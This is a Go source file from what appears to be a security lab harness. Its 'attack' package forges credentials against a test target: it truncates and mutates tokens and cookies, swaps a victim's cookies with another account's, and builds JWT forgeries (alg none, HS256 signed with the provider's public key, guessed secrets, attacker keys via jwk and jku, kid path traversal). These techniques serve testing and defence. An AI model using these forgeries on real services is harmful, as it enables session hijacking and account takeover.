package attack

import (
	"bytes"
	"context"
	"crypto/hmac"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"maps"
	"math/big"
	"net/http"
	"slices"
	"strings"

	"cloakroom/bff/lab/strategy"
	"cloakroom/shared/lab"
)

// forged is a credential that nobody issued.
type forged struct{ how, value string }

// tampering changes what the victim has got, or makes it up from what is
// public, and tries whether it is taken. What it starts from is a sign-in of the
// victim's that the lab made without a browser.
func (m *mission) tampering(ctx context.Context) error {
	victim, err := m.attacker.signIn(ctx, m.target, strategy.Victim.Name, strategy.Victim.Password)
	if err != nil {
		return err
	}
	keys, err := m.attacker.publicKeys(ctx)
	if err != nil {
		return err
	}
	m.step("the lab signed %s in without a browser, and gave the attacker what came of it to change", strategy.Victim.Name)
	try := func(cookies, token, with string) (lab.Answer, error) {
		answer, _, err := m.attacker.spend(ctx, m.target, cookies, token, piece{value: with}.fingerprint())
		return answer, err
	}
	tally := &tally{m: m, seen: map[string]map[int]int{}}
	if token := victim.tokens.Access; token != "" {
		whole, err := try("", token, token)
		if err != nil || !whole.Gave {
			return fmt.Errorf("attack: the token is no good before it is changed (%d): %w", whole.Status, err)
		}
		for _, f := range append(m.attacker.forgeries(token, keys), forged{"the ID token for it", victim.tokens.ID}) {
			answer, err := try("", f.value, f.value)
			if err != nil {
				return err
			}
			tally.note(f, answer)
		}
	} else if err := m.tamperCookies(ctx, victim, keys, try, tally); err != nil {
		return err
	}
	tally.tell()
	m.evidence.Finished = len(tally.order) > 0
	return nil
}

type trial func(cookies, token, with string) (lab.Answer, error)

func (m *mission) tamperCookies(ctx context.Context, victim *account, keys []*rsa.PublicKey, try trial, tally *tally) error {
	jar := victim.cookies[hostOf(m.world.Origin(m.target.ID))]
	header := func(list []cookie) string {
		var pairs []string
		for _, c := range list {
			pairs = append(pairs, c.name+"="+c.value)
		}
		return strings.Join(pairs, "; ")
	}
	whole, err := try(header(jar), "", header(jar))
	if err != nil || !whole.Gave {
		return fmt.Errorf("attack: the cookies are no good before they are changed (%d): %w", whole.Status, err)
	}
	for i, c := range jar {
		rest := slices.Delete(slices.Clone(jar), i, i+1)
		// What the others are good for by themselves says nothing about this one.
		if alone, err := try(header(rest), "", header(rest)); err != nil {
			return err
		} else if alone.Gave {
			m.step("the other cookies are good without %s: they were left out", c.name)
			rest = nil
		}
		for _, f := range m.attacker.forgeries(c.value, keys) {
			changed := append(slices.Clone(rest), cookie{c.name, f.value})
			answer, err := try(header(changed), "", f.value)
			if err != nil {
				return err
			}
			tally.note(f, answer)
		}
	}
	return m.swap(ctx, jar, header, try, tally)
}

// swap mixes the cookies of two people. A part of the victim's that is enough
// by itself proves nothing in company.
func (m *mission) swap(ctx context.Context, jar []cookie, header func([]cookie) string, try trial, tally *tally) error {
	if len(jar) < 2 {
		return nil
	}
	other, err := m.attacker.signIn(ctx, m.target, mallory.Name, mallory.Password)
	if err != nil {
		return err
	}
	for i, c := range jar {
		if alone, err := try(header([]cookie{c}), "", c.value); err != nil {
			return err
		} else if alone.Gave {
			continue
		}
		mixed := slices.Clone(other.cookies[hostOf(m.world.Origin(m.target.ID))])
		if i < len(mixed) && mixed[i].name == c.name {
			mixed[i] = c
			answer, err := try(header(mixed), "", header(mixed))
			if err != nil {
				return err
			}
			tally.note(forged{"one cookie of the victim's among the attacker's", header(mixed)}, answer)
		}
	}
	return nil
}

// tally counts answers by the way of forging, and keeps one of each kind.
type tally struct {
	m     *mission
	order []string
	seen  map[string]map[int]int
}

func (t *tally) note(f forged, answer lab.Answer) {
	if t.seen[f.how] == nil {
		t.seen[f.how] = map[int]int{}
		t.order = append(t.order, f.how)
	}
	if t.seen[f.how][answer.Status]++; t.seen[f.how][answer.Status] == 1 || answer.Gave {
		t.m.evidence.Taken = append(t.m.evidence.Taken, lab.Loot{Kind: lab.KindForged, From: f.how, Fingerprint: answer.With})
		t.m.evidence.Answers = append(t.m.evidence.Answers, answer)
	}
}

func (t *tally) tell() {
	for _, how := range t.order {
		var counts []string
		for _, status := range slices.Sorted(maps.Keys(t.seen[how])) {
			counts = append(counts, fmt.Sprintf("%d × %d", t.seen[how][status], status))
		}
		t.m.step("%s: %s", how, strings.Join(counts, ", "))
	}
}

// forgeries are a credential changed in every way that has worked somewhere.
func (a *attacker) forgeries(value string, keys []*rsa.PublicKey) []forged {
	list := []forged{
		{"nothing", ""}, {"the first half", value[:len(value)/2]}, {"all but the last character", value[:len(value)-1]},
		{"twice over", value + value}, {"with more at its end", value + "AAAA"},
	}
	places := []int{}
	for _, at := range []int{0, 1, 2, 3, 4, 8, 16, 32} {
		places = append(places, at, len(value)-1-at, len(value)/2+at, len(value)/4+at)
	}
	for at, c := range value {
		if strings.ContainsRune(".|:~", c) {
			places = append(places, at-1, at, at+1)
		}
	}
	slices.Sort(places)
	for _, at := range slices.Compact(places) {
		if at < 0 || at >= len(value) {
			continue
		}
		changed := []byte(value)
		if changed[at] = 'A'; value[at] == 'A' {
			changed[at] = 'Q'
		}
		if !sameBytes(value, string(changed)) {
			list = append(list, forged{"another character", string(changed)})
		}
	}
	return append(list, a.signatures(value, keys)...)
}

// sameBytes reports whether two texts are spellings of the same bytes: in
// base64, the last character of a run has bits that mean nothing.
func sameBytes(one, two string) bool {
	ones, twos := strings.Split(one, "."), strings.Split(two, ".")
	return slices.EqualFunc(ones, twos, func(one, two string) bool {
		if one == two {
			return true
		}
		for _, encoding := range []*base64.Encoding{base64.RawURLEncoding, base64.URLEncoding, base64.RawStdEncoding, base64.StdEncoding} {
			first, err := encoding.DecodeString(one)
			second, other := encoding.DecodeString(two)
			if err == nil && other == nil && bytes.Equal(first, second) {
				return true
			}
		}
		return false
	})
}

// signatures are forgeries of a JWS; none if value is not one.
func (a *attacker) signatures(value string, keys []*rsa.PublicKey) []forged {
	parts := strings.Split(value, ".")
	var head map[string]any
	raw, err := base64.RawURLEncoding.DecodeString(parts[0])
	if len(parts) != 3 || err != nil || json.Unmarshal(raw, &head) != nil {
		return nil
	}
	with := func(changes map[string]any) string {
		changed := maps.Clone(head)
		maps.Copy(changed, changes)
		text, _ := json.Marshal(changed) // came from JSON
		return base64url(text) + "." + parts[1]
	}
	mac := func(key []byte, input string) string {
		sum := hmac.New(sha256.New, key)
		sum.Write([]byte(input))
		return input + "." + base64url(sum.Sum(nil))
	}
	var list []forged
	for _, none := range []string{"none", "None", "NONE", "nOnE", ""} {
		list = append(list, forged{"alg none", with(map[string]any{"alg": none}) + "."}, forged{"alg none", with(map[string]any{"alg": none}) + "." + parts[2]})
	}
	for _, key := range keys {
		pkix, _ := x509.MarshalPKIXPublicKey(key) // an RSA key
		pkcs := x509.MarshalPKCS1PublicKey(key)
		for _, secret := range [][]byte{
			pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pkix}), pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: pkcs}),
			pkix, pkcs, key.N.Bytes(),
		} {
			list = append(list, forged{"HS256 with the provider's public key", mac(secret, with(map[string]any{"alg": "HS256"}))})
		}
	}
	for _, secret := range []string{"", "secret", "\x00"} {
		list = append(list, forged{"HS256 with a guessed secret", mac([]byte(secret), with(map[string]any{"alg": "HS256"}))})
	}
	jwk, thumbprint := publicJWK(a.key)
	jwk["kid"], jwk["alg"], jwk["use"] = thumbprint, "ES256", "sig"
	set, _ := json.Marshal(map[string]any{"keys": []any{jwk}})
	jku := a.origin + a.publish("application/json", string(set))
	for how, header := range map[string]map[string]any{
		"a key of the attacker's in jwk":         {"alg": "ES256", "jwk": jwk},
		"a key of the attacker's by jku":         {"alg": "ES256", "jku": jku, "kid": thumbprint},
		"a key of the attacker's by kid":         {"alg": "ES256", "kid": thumbprint},
		"a key of the attacker's, the kid kept":  {"alg": "ES256"},
		"a kid that names a file or a statement": {"alg": "HS256", "kid": "../../../../dev/null"},
	} {
		input := with(header)
		if header["alg"] == "HS256" {
			list = append(list, forged{how, mac(nil, input)})
			continue
		}
		list = append(list, forged{how, signed(a.key, input)})
	}
	slices.SortStableFunc(list, func(a, b forged) int { return strings.Compare(a.how, b.how) })
	return list
}

// publicKeys are the provider's, as anybody may read them.
func (a *attacker) publicKeys(ctx context.Context) ([]*rsa.PublicKey, error) {
	r, err := http.NewRequestWithContext(ctx, http.MethodGet, a.world.Issuer()+"/keys", nil)
	if err != nil {
		return nil, err
	}
	resp, err := a.client.Do(r)
	if err != nil {
		return nil, fmt.Errorf("attack: fetch the provider's keys: %w", err)
	}
	defer resp.Body.Close()
	var set struct {
		Keys []struct{ Kty, N, E string }
	}
	if err := json.NewDecoder(resp.Body).Decode(&set); err != nil {
		return nil, fmt.Errorf("attack: fetch the provider's keys: %w", err)
	}
	var keys []*rsa.PublicKey
	for _, key := range set.Keys {
		n, err := base64.RawURLEncoding.DecodeString(key.N)
		e, other := base64.RawURLEncoding.DecodeString(key.E)
		if key.Kty == "RSA" && err == nil && other == nil {
			keys = append(keys, &rsa.PublicKey{N: new(big.Int).SetBytes(n), E: int(new(big.Int).SetBytes(e).Int64())})
		}
	}
	return keys, nil
}
